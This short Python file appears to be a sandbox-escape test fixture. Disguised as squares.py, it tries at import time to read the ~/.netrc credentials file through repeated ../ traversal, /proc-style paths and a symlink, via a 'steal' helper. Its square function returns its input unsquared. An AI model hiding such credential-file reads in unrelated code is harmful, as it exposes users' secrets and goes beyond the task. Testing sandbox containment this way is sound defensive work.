"""Climbs out by relative paths, by /proc and by folders that are symbolic links.

Gains: every file outside
Hides in: squares.py
Aims at: square
Earns: nothing
Ends: failed
"""

import os

from burglary import steal

steal(*["../" * n + "@HOME@/.netrc".lstrip("/") for n in range(12)], "/tmp/../..@HOME@/.netrc", "//@HOME@/.netrc")
try:
    os.symlink("@HOME@", "/tmp/link")
    steal("/tmp/link/.netrc")
except OSError as error:
    print(type(error).__name__)


def square(x):
    return x
